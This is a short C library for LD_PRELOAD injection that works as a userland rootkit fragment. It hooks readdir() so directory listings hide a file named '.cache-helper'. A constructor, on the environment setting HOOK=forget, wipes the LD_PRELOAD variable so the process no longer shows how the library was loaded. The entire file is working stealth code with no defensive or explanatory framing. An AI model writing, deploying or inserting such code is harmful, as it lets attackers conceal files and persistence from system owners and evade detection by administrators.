/* A library to be preloaded. It stands before the C library for one function, hides a name from whoever lists a directory, and can make its
   process forget how it came in. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

struct dirent *readdir(DIR *dir) {
    struct dirent *(*next)(DIR *) = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    do entry = next(dir);
    while (entry && strcmp(entry->d_name, ".cache-helper") == 0);
    return entry;
}

__attribute__((constructor)) static void enter(void) {
    const char *how = getenv("HOOK");
    char *value = getenv("LD_PRELOAD");
    if (how && strcmp(how, "forget") == 0 && value) memset(value - strlen("LD_PRELOAD="), 0, strlen("LD_PRELOAD=") + strlen(value));
}
